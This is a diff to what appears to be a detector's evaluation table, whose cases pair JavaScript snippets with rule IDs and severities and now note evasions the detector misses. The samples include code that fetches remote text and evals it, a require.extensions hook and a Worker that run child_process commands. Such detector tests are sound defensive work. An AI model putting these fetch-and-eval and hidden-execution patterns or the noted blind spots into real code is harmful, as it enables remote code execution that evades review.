@@ -110,8 +110,8 @@ EVALS = (
     Case("a class that extends Function", "STDLIB-001", MEDIUM, r"""
         class Run extends Function { constructor(text) { super(text); } }
         new Run("<CODE>")();
-    """),
-    Case("setTimeout with text", "STDLIB-001 DYN", MEDIUM, r"""
+    """, unseen="an object of a class that extends Function is not taken for a function"),
+    Case("setTimeout with text", "FETCH-001", HIGH, r"""
         window.setTimeout("fetch('https://example.invalid/a').then(r => r.text()).then(eval)", 10);
     """),
     Case("setInterval with text in pieces", "FETCH-001 EXFIL-001", HIGH, r"""
@@ -143,7 +143,7 @@ EVALS = (
         const fs = require("fs");
         require.extensions[".dat"] = (m, path) => m._compile("require('child_process').execSync('id')", path);
         require("./a.dat");
-    """, files={"a.dat": "a\n"}),
+    """, files={"a.dat": "a\n"}, unseen="functions that are put into require.extensions are not called with a module"),
     Case("a worker of text", "STDLIB-001", MEDIUM, r"""
         const { Worker } = require("worker_threads");
         new Worker("require('child_process').execSync('id')", { eval: true });
